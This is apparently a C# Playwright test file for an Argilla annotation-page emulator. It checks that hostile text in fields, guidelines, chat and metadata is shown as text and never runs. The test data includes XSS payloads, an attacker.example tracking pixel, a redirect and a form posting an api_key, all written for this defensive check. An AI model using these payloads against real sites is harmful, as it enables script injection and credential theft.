using System.Text.Json.Nodes;
using Microsoft.Playwright;

namespace OTel.Argilla.Emulator.Page.Tests;

/// <summary>
/// Texts that want to be more than text. That none ran a script, asked another host or broke the policy is checked after each test.
/// </summary>
internal sealed class HostileTextTests : PageTest
{
    private static readonly string[] Texts =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "[click](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "![x](https://attacker.example/pixel.png)", "<a href=https://attacker.example>a</a>",
        "<style>body{display:none}</style>", "<meta http-equiv=refresh content='0;url=https://attacker.example'>", "<base href=https://attacker.example/>",
        "</textarea></bdi></div><h1>Signed out</h1>", "<form action=https://attacker.example><input name=api_key></form>", "{{constructor.constructor('alert(1)')()}}", "\"><b onmouseover=alert(1)>b</b>",
    ];

    [TestCase(true)]
    [TestCase(false)]
    public async Task MarkupIsShownAndRunsNowhere(bool useMarkdown)
    {
        var all = string.Join("\n\n", Texts);
        var dataset = await Seed.Dataset(
            Texts[0],
            [$$$"""{"name":"rating","title":{{{Quoted(Texts[1])}}},"description":{{{Quoted(Texts[2])}}},"required":true,"settings":{"type":"rating","options":[{"value":1},{"value":2}]}}"""],
            [Seed.TextField("prompt", true, useMarkdown), $$$"""{"name":"chat","title":"Chat","settings":{"type":"chat","use_markdown":{{{(useMarkdown ? "true" : "false")}}} } }""",
             """{"name":"custom","title":"Custom","settings":{"type":"custom","template":"<script>alert(1)</script>","advanced_mode":true}}"""],
            [$$$"""{"name":"m","title":{{{Quoted(Texts[1])}}},"settings":{"type":"terms"}}"""],
            new JsonObject { ["guidelines"] = all }.ToJsonString());
        var record = Seed.Record(Texts[3], all);
        record["fields"]!["chat"] = new JsonArray([.. Texts.Select(text => new JsonObject { ["role"] = "<b>user</b>", ["content"] = text })]);
        record["fields"]!["custom"] = new JsonObject { [Texts[0]] = Texts[1] };
        record["metadata"] = new JsonObject { ["m"] = Texts[0], [Texts[1]] = Texts[2] };
        record["suggestions"] = new JsonArray(new JsonObject { ["question_id"] = dataset.Questions["rating"], ["value"] = 1, ["agent"] = "agent-1" });
        await Seed.Records(dataset, record);

        await Page.GotoAsync("/");
        await Page.GetByRole(AriaRole.Link, new() { Name = Texts[0] }).ClickAsync();
        await Expect(Page.GetByText("<script>alert(1)</script>").First).ToBeVisibleAsync();
        await Page.GetByText("Guidelines").ClickAsync();
        foreach (var button in await Page.GetByRole(AriaRole.Button, new() { Name = "Source of" }).AllAsync())
        {
            await button.ClickAsync();
        }

        // Some only run when they are hovered or clicked.
        await Page.GetByText("onmouseover").First.HoverAsync();
        Assert.Multiple(async () =>
        {
            foreach (var tag in new[] { "iframe", "main script", "main style", "main meta", "main base", "main form[action]", "[onerror]", "[onload]", "[onmouseover]", "a[href^='javascript']", "a[href^='data']", "img[src^='http']" })
            {
                Assert.That(await Page.Locator(tag).CountAsync(), Is.Zero, tag);
            }
        });
        await Expect(Page.GetByRole(AriaRole.Heading, new() { Name = "Signed out" })).ToHaveCountAsync(0);
    }

    [Test]
    public async Task ControlCharactersRightToLeftAndEmojiAreReadable()
    {
        var dataset = await Seed.Dataset("odd", [Seed.Rating]);
        await Seed.Records(dataset, Seed.Record("a\0b", "NUL \0 and bell \u0007 and 👩‍👩‍👧", "שלום עולם\n\nمرحبا \u202Ereversed"));
        await Show(dataset);
        await Expect(Page.GetByText("NUL ␀ and bell ␇ and 👩‍👩‍👧")).ToBeVisibleAsync();
        await Page.GetByText("Metadata (0)").ClickAsync();
        await Expect(Page.GetByText("a␀b")).ToBeVisibleAsync();
        Assert.That(await Page.GetByText("שלום עולם").EvaluateAsync<string>("element => getComputedStyle(element).direction"), Is.EqualTo("rtl"));

        // The order that one text turns around ends with it.
        Assert.That(await Page.GetByText("Card").First.EvaluateAsync<string>("element => getComputedStyle(element).direction"), Is.EqualTo("ltr"));
        await Press("4", "Control+Enter");
        await Expect(Page.GetByText("Card 1 submitted.").First).ToBeVisibleAsync();
    }

    [Test]
    public async Task AMegabyteIsFoldedAndUnfolds()
    {
        var dataset = await Seed.Dataset("long", [Seed.Rating]);
        await Seed.Records(dataset, Seed.Record("long", "Why?", string.Concat(Enumerable.Repeat("lorem ipsum <b> ", 65_536)) + "the very end"));
        await Show(dataset);
        await Expect(Page.GetByText("Why?")).ToBeVisibleAsync();
        await Expect(Page.GetByText("the very end")).ToHaveCountAsync(0);
        await Page.GetByRole(AriaRole.Button, new() { Name = "Show all 1,048,588 characters" }).ClickAsync();
        await Expect(Page.GetByText("the very end")).ToHaveCountAsync(1);
        await Press("4", "Control+Enter");
        await Expect(Page.GetByText("Card 1 submitted.").First).ToBeVisibleAsync();
    }

    private static string Quoted(string text) => JsonValue.Create(text).ToJsonString();
}
